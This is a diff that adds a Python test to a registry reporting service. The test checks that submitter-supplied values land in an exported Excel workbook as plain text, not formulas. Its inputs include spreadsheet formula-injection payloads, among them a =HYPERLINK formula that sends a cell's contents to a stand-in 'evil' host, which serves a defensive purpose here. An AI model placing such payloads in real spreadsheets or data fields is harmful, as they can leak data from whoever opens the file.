@@ -147,3 +147,47 @@ def test_schema_feedback_opens_in_7zip_too(people, enqueued, tmp_path):
     password = services.monthly_password_reveal(MonthlyPassword.objects.get(submitter=people.submitter))
     listing = subprocess.run(["7z", "l", "-slt", f"-p{password}", str(archive)], capture_output=True, text=True)
     assert "Method = AES-256 Deflate" in listing.stdout
+
+
+def test_submitters_text_is_text_in_the_workbook(people, enqueued, tmp_path):
+    """Record ids, paths and messages quoting values from a receipt, and the submitter's name, are text cells
+    in the workbook, never formulas; the numbers stay numbers."""
+    people.submitter.name = "=1+1"
+    people.submitter.save()
+    add_records(people.submitter, [npr_row(i, 3) for i in range(3)])
+    hostile = [
+        {**finding("DATE-001", "=1+1", message='=HYPERLINK("http://evil/?"&A1,"klikk")'), "path": "+cmd"},
+        {**finding("DATE-001", "@SUM(A1)", message="-2+3"), "path": "#REF!"},
+    ]
+    make_submission(
+        people.submitter,
+        status="accepted_with_errors",
+        findings=hostile,
+        period_start=datetime.date(YEAR, 1, 1),
+        period_end=datetime.date(YEAR, 12, 31),
+    )
+    report = services.activity_request(
+        user=UserFactory(username="fhi-wb", registry_role=User.RegistryRole.STAFF),
+        submitter=people.submitter,
+        register="NPR",
+        year=YEAR,
+    )
+    services.report_produce(report_id=report.pk)
+    report.refresh_from_db()
+    archive = tmp_path / report.file_name
+    with default_storage.open(report.file.name, "rb") as file:
+        archive.write_bytes(file.read())
+    password = services.monthly_password_reveal(MonthlyPassword.objects.get(submitter=people.submitter))
+    book = load_workbook(io.BytesIO(_workbook_bytes(archive, password)))
+    summary = book["Sammendrag"]
+    assert (summary["B2"].value, summary["B2"].data_type) == ("=1+1", "s")
+    assert [c.value for c in summary["A7:B7"][0]] == ["Poster", 3] and summary["B7"].data_type == "n"
+    found = {row[3].value: row for row in book["Funn"].iter_rows(min_row=2)}
+    assert set(found) == {"=1+1", "@SUM(A1)"}
+    for record_id, path, message in [
+        ("=1+1", "+cmd", '=HYPERLINK("http://evil/?"&A1,"klikk")'),
+        ("@SUM(A1)", "#REF!", "-2+3"),
+    ]:
+        row = found[record_id]
+        assert [(c.value, c.data_type) for c in row[3:6]] == [(record_id, "s"), (path, "s"), (message, "s")]
+        assert row[0].is_date
